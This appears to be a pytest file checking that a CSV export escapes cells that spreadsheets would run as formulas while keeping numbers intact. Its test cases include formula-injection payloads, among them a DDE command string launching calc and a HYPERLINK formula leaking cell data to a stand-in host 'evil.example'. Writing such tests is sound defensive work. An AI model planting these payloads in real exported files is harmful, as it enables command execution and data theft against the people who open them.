"""CSV downloads: no cell a spreadsheet would run as a formula, numbers kept as numbers."""

from __future__ import annotations

import io

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from coalitions.escape import csv_cell, csv_safe

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+33 1 23 45 67 89", "'+33 1 23 45 67 89"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=cmd|' /C calc'!A0", "'\t=cmd|' /C calc'!A0"),
        ("\r=1", "'\r=1"),
        ('=HYPERLINK("https://evil.example?"&A1)', '\'=HYPERLINK("https://evil.example?"&A1)'),
        ("-12", "-12"),  # text that is only a number stays a number
        ("-3.5", "-3.5"),
        ("+1e3", "+1e3"),
        ("Lancée", "Lancée"),
        ("a = b", "a = b"),
        ("", ""),
    ],
)
def test_csv_cell(cell, safe):
    assert csv_cell(cell) == safe


def test_numbers_dates_and_blanks_are_untouched():
    for value in (-12, -3.5, 0, True, None, pd.Timestamp("2021-05-18")):
        assert csv_cell(value) is value


def test_a_frame_keeps_its_numbers_and_loses_its_formulas():
    frame = pd.DataFrame(
        {
            "=titre": ["=1+1", "ok", "-5"],
            "nombre": [-1, 2, -3],
            "part": [-0.5, 1.5, None],
            "date": pd.to_datetime(["2021-05-18", None, "2021-06-15"]),
            "catégorie": pd.Categorical(["@x", "y", "@x"]),
        }
    )
    text = csv_safe(frame).to_csv(index=False)
    back = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
    assert list(back.columns) == ["'=titre", "nombre", "part", "date", "catégorie"]
    assert back["'=titre"].tolist() == ["'=1+1", "ok", "-5"]
    assert back["nombre"].tolist() == ["-1", "2", "-3"]
    assert back["part"].tolist() == ["-0.5", "1.5", ""]
    assert back["catégorie"].tolist() == ["'@x", "y", "'@x"]
    assert frame["=titre"][0] == "=1+1"  # the page's own table is left as it was


@given(st.text())
def test_no_text_starts_like_a_formula_unless_it_is_a_number(text):
    safe = csv_cell(text)
    if safe.startswith(FORMULA_START):
        assert float(safe.replace(",", ".")) == float(safe.replace(",", "."))
